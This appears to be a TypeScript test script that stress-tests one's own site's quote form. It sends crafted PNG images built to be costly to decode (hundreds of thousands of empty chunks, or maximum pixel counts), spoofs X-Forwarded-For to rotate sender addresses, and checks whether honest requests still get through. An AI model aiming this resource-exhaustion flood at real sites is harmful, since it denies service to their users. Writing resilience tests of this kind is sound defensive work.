// Sends quote requests with pictures that are expensive to process, and beside them an honest request with a photo. Only for your own site:
// X-Forwarded-For sets the senders' addresses, so the site has to trust one proxy (TRUSTED_PROXIES=1).
import { crc32, deflateSync } from "node:zlib";
import { formHeaders, formOf, quoteFields } from "./forms.ts";
import type { AttackRow } from "./target.ts";

/** `answer`: the response's `unread` value, else its status, as JSON. */
type Outcome = { sent: boolean; unread: boolean; answer: string; ms: number };

type Answer = { status?: string; reference?: string; unread?: unknown };

type Options = {
  /** The site's address, without a path. */
  site: string;
  perSecond: number;
  /** The pictures are sent from these in turn. */
  addresses: readonly string[];
  seconds: number;
  /** The address of the honest requests. */
  honestAddress?: string;
};

const signature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");

function chunk(type: string, data: Uint8Array = Buffer.alloc(0)): Buffer {
  const typed = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, sum]);
}

/** Returns an empty picture: `isGrey` with one bit a pixel, else with four channels of 8 bits. `between`: chunks before its pixel data. */
export function png(width: number, height: number, between: readonly Buffer[] = [], isGrey = false): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set(isGrey ? [1, 0] : [8, 6], 8);
  const pixels = deflateSync(Buffer.alloc((1 + (isGrey ? Math.ceil(width / 8) : width * 4)) * height), { level: 9 });
  return Buffer.concat([signature, chunk("IHDR", head), ...between, chunk("IDAT", pixels), chunk("IEND")]);
}

/** Returns a small picture with `count` meaningless chunks between its header and its pixel data: 4.8 MB for 400,000. */
export const pictureOfChunks = (count = 400_000, type = "tIME"): Buffer => png(64, 64, Array(count).fill(chunk(type)));

/** The largest accepted number of pixels, with all four channels: about as much work as ten photos. */
const largestPicture = () => png(8000, 8000);

async function sendQuote(site: string, address: string, photo: Uint8Array): Promise<Outcome> {
  const started = performance.now();
  const { status, reference, unread } = await fetch(`${site}/api/leads?kind=quote`, {
    method: "POST",
    body: formOf(quoteFields(), [photo]),
    // Each request uses a new connection: while this process compresses pixels, it does not notice that the site has closed a kept-alive
    // one.
    headers: { ...formHeaders(site, address), connection: "close" },
    signal: AbortSignal.timeout(60_000),
  })
    .then(async (response) => (await response.json()) as Answer)
    .catch((error: Error & { cause?: { code?: string } }): Answer => ({ status: `no answer: ${error.cause?.code ?? error.name}` }));
  const answer = JSON.stringify(unread ?? status);
  return { sent: status === "sent" && Boolean(reference), unread: Boolean(unread), answer, ms: performance.now() - started };
}

const share = (times: readonly number[], part: number) =>
  Math.round([...times].sort((a, b) => a - b)[Math.min(times.length - 1, Math.floor(times.length * part))] ?? 0);

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

async function attack(what: string, picture: Buffer, options: Options): Promise<AttackRow> {
  const { site, perSecond, addresses, seconds, honestAddress = "198.51.100.7" } = options;
  const end = Date.now() + seconds * 1000;
  const photo = png(300, 200);
  const honest: Outcome[] = [];
  const hostile: Promise<Outcome>[] = [];
  const visitor = (async () => {
    do {
      honest.push(await sendQuote(site, honestAddress, photo));
      await pause(500);
    } while (Date.now() < end);
  })();
  for (let index = 0; Date.now() < end; index += 1) {
    hostile.push(sendQuote(site, addresses[index % addresses.length] ?? honestAddress, picture));
    await pause(1000 / perSecond);
  }
  const answered = await Promise.all(hostile);
  await visitor;
  const isDrawn = ({ sent, unread }: Outcome) => sent && !unread;
  const drawn = honest.filter(isDrawn).length;
  const taken = answered.filter(({ sent }) => sent).length;
  return {
    what,
    tries: answered.length,
    // One accepted hostile picture is enough: after sixty in a quarter of an hour, the site limits an address.
    held: drawn === honest.length && taken > 0,
    figures: {
      addresses: addresses.length,
      taken,
      "answered within ms (95 %)": share(
        answered.map(({ ms }) => ms),
        0.95,
      ),
      honest: honest.length,
      "honest, photo drawn": drawn,
      ...Object.fromEntries(honest.filter((outcome) => !isDrawn(outcome)).map(({ answer }) => [`not drawn, as ${answer}`, 1])),
      "honest within ms (half)": share(
        honest.map(({ ms }) => ms),
        0.5,
      ),
      "honest within ms (95 %)": share(
        honest.map(({ ms }) => ms),
        0.95,
      ),
    },
  };
}

/**
 * Returns one row for each kind of picture; each kind is sent for `seconds`. Held: every honest request was accepted and its photo drawn.
 */
export async function attackPictures(options: Options): Promise<AttackRow[]> {
  return [
    await attack("pictures of 400,000 empty chunks", pictureOfChunks(), options),
    await attack("pictures of as many pixels as are taken", largestPicture(), options),
  ];
}
